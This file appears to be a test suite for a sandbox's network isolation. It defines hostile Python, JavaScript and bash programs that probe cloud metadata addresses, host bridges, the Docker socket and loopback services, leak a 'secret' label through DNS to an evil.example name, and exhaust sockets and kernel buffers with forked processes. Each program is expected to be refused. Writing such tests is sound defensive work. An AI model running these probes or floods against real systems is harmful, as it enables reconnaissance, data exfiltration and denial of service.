import { EXITED, type HostileCase, OUT_OF_MEMORY } from './case.ts'
import { ALL_REFUSED, refused } from './refused.ts'

/** Ways to fill sockets, each until no descriptor is left. Connections that are closed, or not accepted yet, need none. */
const FILLS = {
  UDP: `server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    for _ in range(8): server.sendto(bytes(50_000), server.getsockname())
    return server`,
  TCP: `with socket.create_connection(listener.getsockname()) as client:
        client.setblocking(False)
        try:
            while True: client.send(bytes(65536))
        except BlockingIOError: pass`,
  netlink: `talk = socket.socket(16, socket.SOCK_RAW, 0)
    talk.setblocking(False)
    try:
        for _ in range(20): talk.send(struct.pack("IHHII", 16, 0x7f, 5, 1, 0) * 100)
    except OSError: pass
    return talk`,
}

const toFilling = ([kind, fill]: readonly [string, string]): HostileCase => ({
  name: `fills more sockets of ${kind} than one process may have, which no memory limit counts`,
  source: `import os, socket, struct, time
def fill():
    ${fill}
for _ in range(9):
    if os.fork() == 0:
        listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
        kept = []
        try:
            while True: kept.append(fill())
        except OSError: time.sleep(20)
time.sleep(20)`,
  ends: [OUT_OF_MEMORY],
})

/** Trying to reach the network, and programs that listen on this machine. */
export const network: readonly HostileCase[] = [
  {
    name: 'connects to the host, the bridge, the metadata service and the internet, by every kind of address',
    source: refused(`started = time.monotonic()
# Without IPv6 there is no address to send from.
NO_WAY_V6 = errno.EADDRNOTAVAIL if read("/proc/sys/net/ipv6/conf/all/disable_ipv6") == b"1\\n" else errno.ENETUNREACH
HOSTS = ("172.17.0.1", "172.18.0.1", "10.0.0.1", "192.168.0.1", "169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "8.8.8.8", "0.0.0.1", "255.255.255.255", "224.0.0.1",
    "fd00:ec2::254", "fe80::1", "2606:4700:4700::1111", "::ffff:169.254.169.254", "::ffff:8.8.8.8", "64:ff9b::808:808", "2002:808:808::1", "ff02::1")
for host in HOSTS:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    def tcp():
        with socket.socket(family) as s: s.settimeout(1); s.connect((host, 80))
    def udp():
        with socket.socket(family, socket.SOCK_DGRAM) as s: s.settimeout(1); s.sendto(b"x", (host, 53))
    no_way = NO_WAY_V6 if ":" in host and "." not in host else errno.ENETUNREACH
    # TCP needs the device of a local address, and knows no multicast.
    denied(f"tcp {host}", tcp, {"fe80::1": errno.EINVAL, "ff02::1": errno.ENETUNREACH}.get(host, no_way))
    denied(f"udp {host}", udp, no_way)
assert time.monotonic() - started < 2, "refused, but not at once"`),
    ends: [EXITED],
    prints: ALL_REFUSED,
  },
  {
    name: 'looks for services of the host on its own loopback',
    source: refused(`for port in (22, 53, 80, 443, 2375, 2376, 2377, 3000, 5432, 6379, 8080, 8081, 9090, 10250, 50051):
    for host in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "localhost"):
        denied(f"{host}:{port}", lambda: socket.create_connection((host, port), 1), errno.ECONNREFUSED)
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
    denied(path, lambda: socket.socket(socket.AF_UNIX).connect(path), errno.ENOENT)
names = {line.split()[-1] for line in open("/proc/net/unix") if "@" in line}
assert not names, names
for name in ("/containerd-shim/x", "/tmp/.X11-unix/X0", "dbus"):
    denied(name, lambda: socket.socket(socket.AF_UNIX).connect(chr(0) + name), errno.ECONNREFUSED)`),
    ends: [EXITED],
    prints: ALL_REFUSED,
  },
  {
    name: 'looks up names that carry secrets',
    source: refused(`started = time.monotonic()
for name in ("example.com", "metadata.google.internal", "host.docker.internal", "redis", "secret" * 9 + ".evil.example", "1.1.1.1.nip.io"):
    denied(name, lambda: socket.getaddrinfo(name, 80), socket.EAI_NONAME)
assert time.monotonic() - started < 2, "refused, but not at once"`),
    ends: [EXITED],
    prints: ALL_REFUSED,
  },
  {
    name: 'fetches from Node',
    language: 'javascript',
    source: `const places = ['http://169.254.169.254/latest/meta-data/', 'http://1.1.1.1/', 'http://[::1]:6379/', 'http://127.0.0.1:2375/info', 'https://example.com/']
const why = (place) => fetch(place).then(({ status }) => status, ({ cause }) => cause.code)
Promise.all(places.map(why)).then((answers) => console.log(...answers))`,
    ends: [EXITED],
    prints: 'ENETUNREACH ENETUNREACH ECONNREFUSED ECONNREFUSED ENOTFOUND\n',
  },
  {
    name: 'connects with the network devices of the shell',
    language: 'bash',
    source: `for host in 172.17.0.1 169.254.169.254 1.1.1.1 127.0.0.1 ::1; do
  for kind in tcp udp; do (exec 3> /dev/$kind/$host/6379) 2>&1 | sed -n 's/.*: connect: //p'; done
done`,
    ends: [EXITED],
    // UDP to itself needs no answer.
    prints: `${'Network is unreachable\n'.repeat(6)}${'Connection refused\n'.repeat(2)}`,
  },
  {
    name: 'opens sockets of families that see other traffic or talk to the kernel',
    source:
      refused(`FAMILIES = {"packet": 17, "vsock": 40, "alg": 38, "bluetooth": 31, "can": 29, "key": 15, "xdp": 44, "qipcrtr": 42, "rds": 21, "tipc": 30, "smc": 43, "rxrpc": 33, "nfc": 39, "llc": 26, "x25": 9, "ax25": 3, "appletalk": 5, "phonet": 35, "kcm": 41, "mctp": 45, "ppp": 24}
for name, family in FAMILIES.items():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        denied(f"{name} {kind}", lambda: socket.socket(family, kind))
for protocol in range(1, 23): denied(f"netlink {protocol}", lambda: socket.socket(16, socket.SOCK_RAW, protocol))
for family in (socket.AF_INET, socket.AF_INET6):
    for protocol in (1, 6, 17, 58, 255): denied(f"raw {protocol}", lambda: socket.socket(family, socket.SOCK_RAW, protocol), errno.EPERM if protocol in (6, 17) else errno.EPROTONOSUPPORT)
denied("mptcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262), errno.EPROTONOSUPPORT)`),
    ends: [EXITED],
    prints: ALL_REFUSED,
  },
  {
    name: 'gives itself addresses, routes and interfaces',
    source:
      refused(`SIOCADDRT, SIOCSIFFLAGS, SIOCSIFADDR, SIOCSIFMTU, SIOCSIFNAME, TUNSETIFF, SIOCBRADDBR = 0x890B, 0x8914, 0x8916, 0x8922, 0x8923, 0x400454ca, 0x89a0
plain = socket.socket()
request = struct.pack("16sH14s8s", b"lo", socket.AF_INET, bytes((0, 0, 10, 1, 1, 1)), b"")
for name in (SIOCADDRT, SIOCSIFFLAGS, SIOCSIFADDR, SIOCSIFMTU, SIOCSIFNAME, SIOCBRADDBR):
    denied(hex(name), lambda: fcntl.ioctl(plain, name, request))
def netlink(kind, body):
    with socket.socket(16, socket.SOCK_RAW, 0) as s:
        s.send(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
        error = struct.unpack_from("i", s.recv(4096), 16)[0]
        if error: raise OSError(-error, os.strerror(-error))
address = struct.pack("BBBBI", socket.AF_INET, 8, 0, 0, 1) + struct.pack("HH4s", 8, 2, bytes((10, 9, 9, 9)))
denied("an address", lambda: netlink(20, address))
denied("an interface", lambda: netlink(16, struct.pack("BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("HH8s", 12, 3, b"mine")))
denied("a route", lambda: netlink(24, struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 3, 0, 1, 0)))
for option in (64, 96): denied(f"a filter {option}", lambda: plain.setsockopt(0, option, bytes(64)))
denied("another device", lambda: plain.setsockopt(socket.SOL_SOCKET, 25, b"eth0"), errno.ENODEV)
denied("a larger buffer by force", lambda: plain.setsockopt(socket.SOL_SOCKET, 33, 1 << 30))
denied("a flow label", lambda: socket.socket(socket.AF_INET6).setsockopt(41, 32, bytes(32)))
for option in (14, 32, 38): denied(f"a key for segments {option}", lambda: plain.setsockopt(6, option, bytes(256)))
for option in (1, 4, 18): plain.setsockopt(6, option, 1)
socket.socket(socket.AF_INET6).setsockopt(41, 26, 1)
denied("a mark", lambda: plain.setsockopt(socket.SOL_SOCKET, 36, 1))`),
    ends: [EXITED],
    prints: ALL_REFUSED,
  },
  {
    name: 'listens on as many ports as it can',
    source: `import socket
held = []
try:
    for port in range(1024, 65536): held.append(socket.create_server(("", port)))
except OSError as error: print(error.strerror, len(held) > 900)`,
    ends: [EXITED],
    prints: 'Too many open files True\n',
  },
  ...Object.entries(FILLS).map(toFilling),
  {
    name: 'fills the buffers of connections to itself, which the kernel counts for no process',
    source: `import socket
server = socket.create_server(("127.0.0.1", 0), backlog=500)
held, sent = [], 0
try:
    while True:
        near = socket.create_connection(server.getsockname())
        far, _ = server.accept()
        held += [near, far]
        near.setblocking(False)
        near.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        far.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        try:
            while True: sent += near.send(bytes(65536))
        except BlockingIOError: pass
except OSError: print(len(held) > 900, sent < 150 << 20)`,
    limits: { memoryBytes: 96 * 1024 * 1024 },
    // Version 1 of control groups does not count these buffers as memory, version 2 does.
    ends: [EXITED, OUT_OF_MEMORY],
    prints: ({ type }) => (type === 'exited' ? 'True True\n' : ''),
  },
]
